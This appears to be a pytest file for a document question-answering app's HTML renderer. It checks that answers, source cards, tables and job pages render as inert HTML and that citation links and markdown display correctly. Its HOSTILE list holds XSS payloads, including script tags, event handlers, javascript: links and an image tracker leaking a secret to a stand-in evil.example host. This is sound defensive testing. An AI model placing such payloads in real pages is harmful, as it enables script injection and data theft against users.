"""Answers, sources, pages and tables render as inert HTML whatever text documents and models contain."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from assistant.stored_answer import ShownMessage, ShownSource
from storage.job_store import FileProgress, IngestJob
from ui.job_progress import job_html
from ui.render import (
    LEGEND,
    LiveAnswer,
    StreamedTranscript,
    answer_html,
    live_html,
    page_text_html,
    sources_html,
    table_html,
    transcript_html,
)

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src="http://evil.example/x.png" onerror="alert(2)">',
    "[click](javascript:alert(3))",
    "![tracker](http://evil.example/t.png?q=secret)",
    '<a href="javascript:alert(4)">x</a>',
    '"><svg onload=alert(5)>',
]


class Elements(HTMLParser):
    """Every start tag and attribute the browser would build."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.tags


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag not in ("script", "img", "svg", "iframe", "object"), tag
        assert not any(name.startswith("on") for name in attrs), attrs
        for name in ("href", "src"):
            value = attrs.get(name) or ""
            assert not value or value.startswith(("#src-", "/view/")), value


def source(text: str) -> dict[str, object]:
    return {"n": 1, "chunk_id": 7, "file": text, "page": 2, "heading": text, "text": text, "score": 0.5,
            "before": text, "after": text, "kind": "cited", "collection": "hr", "support": [text]}


def shown(**fields: object) -> ShownMessage:
    """A stored answer as the page gets it, from the JSON it is stored as."""
    return ShownMessage.model_validate({"id": 1, "question": "q", "answer": "", **fields})


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_renders_as_text_everywhere(hostile: str) -> None:
    message = shown(id=3, question=hostile, answer=f"Economy class [1]. {hostile}", backend=hostile,
                    sources=[source(hostile)], error=hostile,
                    sentences=[{"text": "Economy class [1].", "status": "cited", "passages": [1]},
                               {"text": hostile, "status": "unsupported", "passages": []}])
    for html in (transcript_html([message]), sources_html([message]), page_text_html(hostile * 2, (3, 9)),
                 table_html([{"a": hostile}], ["a"]),
                 job_html(IngestJob(id=1, collection=hostile, source=hostile, state="done", total=1, done=1,
                                    files=(FileProgress(hostile, "failed", 0, hostile),),
                                    failures=(FileProgress(hostile, "failed", 0, hostile),), error=hostile)),
                 job_html(IngestJob(id=2, collection=hostile, source=hostile, state="running", total=2, now=hostile))):
        assert_inert(html)


def test_markers_link_to_their_sources_and_sentences_show_their_support() -> None:
    message = shown(answer="Economy class [1]. Business above six hours. Free snacks [9].",
                    sources=[source("a"), {**source("b"), "n": 2}],
                    sentences=[{"text": "Economy class [1].", "status": "cited", "passages": [1]},
                               {"text": "Business above six hours.", "status": "attributed", "passages": [2]},
                               {"text": "Free snacks [9].", "status": "unsupported", "passages": []}])
    html = answer_html(message, "5")
    links = [attrs["href"] for tag, attrs in elements(html) if tag == "a"]
    assert links == ["#src-5-1", "#src-5-2"]  # [9] points at no source and stays plain text
    classes = [attrs["class"] for tag, attrs in elements(html) if tag == "span"]
    assert classes == ["s-cited", "s-attributed", "s-unsupported"]


def test_source_cards_show_no_raw_scores() -> None:
    cards = sources_html([shown(sources=[
        {**source("Economy class on short flights."), "score": 0.6132},
        {**source("Business class on long flights."), "n": 2, "score": 0.58, "rerank": 3.2107}])])
    assert "0.6132" not in cards and "0.58" not in cards and "3.21" not in cards and "score" not in cards
    assert not re.search(r"\d\.\d{2,}", cards), "no number a reader cannot interpret"
    assert "best match" in cards  # the first passage says it is the best one, in words


def test_supporting_sentences_are_quoted_under_the_answer_with_their_source() -> None:
    cited = {**source("Travel policy. Employees fly economy class under six hours."), "file": "travel.pdf",
             "support": ["Employees fly economy class under six hours."]}
    message = shown(id=4, question="Which class?", answer="Economy class [1].", sources=[cited], sentences=[])
    html = transcript_html([message])
    quote = re.search(r'<blockquote class="support-quote">(.*?)</blockquote>', html)
    assert quote is not None, "the backing sentence is shown under the answer"
    assert "Employees fly economy class under six hours." in quote.group(1) and "travel.pdf, page 2" in quote.group(1)
    assert html.index("support-quote") > html.index('class="answer"')
    assert [a["href"] for t, a in elements(quote.group(1)) if t == "a"] == ["#src-4-1"]
    assert "support-quote" not in transcript_html([message.model_copy(update={"sources": [
        message.sources[0].model_copy(update={"support": []})]})])
    quoted = message.model_copy(update={"quoted": "the model gave no answer"})
    assert "support-quote" not in transcript_html([quoted]), "an answer made of the passages' sentences, quoted once"


def test_an_answer_quoted_from_the_documents_says_so_and_links_each_quote() -> None:
    line = "\u201cEmployees fly economy class under six hours.\u201d [1]"
    message = shown(id=3, question="Which class?", answer=f"Quoted from the documents:\n{line}",
                    sources=[{**source("travel"), "kind": "quoted", "support": []}],
                    sentences=[{"text": line, "status": "quoted", "passages": [1]}],
                    quoted="the model gave no answer", refused=False)
    html = transcript_html([message])
    assert "could not be used (the model gave no answer)" in html and "quoted from the documents" in html
    spans = [attrs for tag, attrs in elements(html) if tag == "span" and attrs.get("title")]
    assert [(s["class"], s["title"]) for s in spans] == [("s-cited", "quoted word for word from the marked source")]
    assert [a["href"] for t, a in elements(html) if t == "a"] == ["#src-3-1"]
    assert "could not be used" not in transcript_html([message.model_copy(update={"quoted": None})])


class Turns(list[ShownMessage]):
    """Finished turns that count how often they are read through."""

    reads = 0

    def __iter__(self) -> Iterator[ShownMessage]:
        self.reads += 1
        return super().__iter__()

    def __reversed__(self) -> Iterator[ShownMessage]:
        self.reads += 1
        return super().__reversed__()


def test_a_streamed_answer_renders_the_earlier_turns_once_and_shows_them_as_a_full_render_would() -> None:
    turns = Turns(shown(id=i, question=f"Question {i}?", answer=f"Answer {i} [1].", sources=[source(f"passage {i}")],
                        backend="Ollama") for i in range(1, 41))
    stream = StreamedTranscript(turns)
    reads_at_start = turns.reads
    live = LiveAnswer("And on longer flights?", sources=[ShownSource.model_validate(source("Business class."))])
    for token in ["Business ", "class ", "[1]", "."] * 25:
        live.answer += token
        transcript, panel = stream.transcript(live), stream.sources(live)

    assert turns.reads == reads_at_start, "no token reads the earlier turns again"
    assert transcript == transcript_html(turns).replace(LEGEND, live_html(live) + LEGEND)
    assert 'href="#src-live-1"' in transcript and transcript.index("turn-live") > transcript.index("turn-40")
    assert panel.index("Sources for: And on longer flights?") < panel.index("Sources for: Question 40?")
    assert panel.count("<details") == 41 and panel.count(" open>") == 1, "only the answer being written is open"


class Balance(HTMLParser):
    """Whether every element opened is closed, in order."""

    VOID = frozenset({"br", "hr", "input"})

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.broken = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack.pop() != tag:
            self.broken = True


def well_formed(html: str) -> bool:
    parser = Balance()
    parser.feed(html)
    return not parser.broken and not parser.stack


MARKDOWN = "## Vacation Perks\n\nEmployees get twenty days [1].\n\n| Perk | Amount |\n|---|---|\n| Gym | 400 [1] |\n"


def test_markdown_renders_as_headings_and_tables_with_sentences_and_markers_kept() -> None:
    sentences = [{"text": "## Vacation Perks\n\nEmployees get twenty days [1].", "status": "cited", "passages": [1]},
                 {"text": "| Perk | Amount |\n|---|---|\n| Gym | 400 [1] |", "status": "unsupported", "passages": []}]
    html = answer_html(shown(answer=MARKDOWN, sources=[source("a")], sentences=sentences), "5")
    tags = [tag for tag, _ in elements(html)]
    assert "h2" in tags and "table" in tags and "##" not in html and "|---|" not in html
    assert [a["href"] for t, a in elements(html) if t == "a"] == ["#src-5-1", "#src-5-1"]
    assert {a["class"] for t, a in elements(html) if t == "span"} == {"s-cited", "s-unsupported"}
    assert well_formed(html), html


def test_the_cited_passage_is_marked_across_blocks_and_the_page_keeps_one_anchor() -> None:
    text = "Intro.\n\n" + MARKDOWN + "\nAfter."
    start, end = text.index("Employees"), text.index("After.")
    html = page_text_html(text, (start, end))
    marks = [attrs for tag, attrs in elements(html) if tag == "mark"]
    assert marks[0] == {"id": "cited"} and all(m == {"class": "cited"} for m in marks[1:]) and len(marks) > 2
    assert well_formed(html) and "<table>" in html and "After." not in html.split("</mark>")[-2]
    card = sources_html([shown(sources=[{**source("x"), "before": "## Perks\n\n", "text": "Gym | 400",
                                         "marked": "| Gym | 400 |", "after": "\n"}])])
    assert "<h2>Perks</h2>" in card and well_formed(card)


def test_links_images_and_html_in_markdown_stay_text() -> None:
    html = answer_html(shown(answer="[a](http://evil.example/) ![b](http://evil.example/i.png) <b>x</b> "
                                    "<http://evil.example> `[1]`\n\n[1]: http://evil.example/ref"), "5")
    assert "http://evil.example" in html and "&lt;b&gt;" in html
    assert_inert(html)
    assert [t for t, _ in elements(html)] == ["p", "code", "p"]


def test_an_answer_found_while_files_are_still_embedded_says_so_while_streaming_and_after() -> None:
    note = "still indexing 3 files; answers use keyword search for them"
    streaming = live_html(LiveAnswer(question="Who delivers?", indexing=note))
    saved = transcript_html([ShownMessage(id=1, question="Who delivers?", answer="Brightwater.", indexing=note)])
    for html in (streaming, saved):
        assert "Note: still indexing 3 files; answers use keyword search for them." in html
    plain = transcript_html([ShownMessage(id=2, question="Who delivers?", answer="Brightwater.")])
    assert "still indexing" not in plain
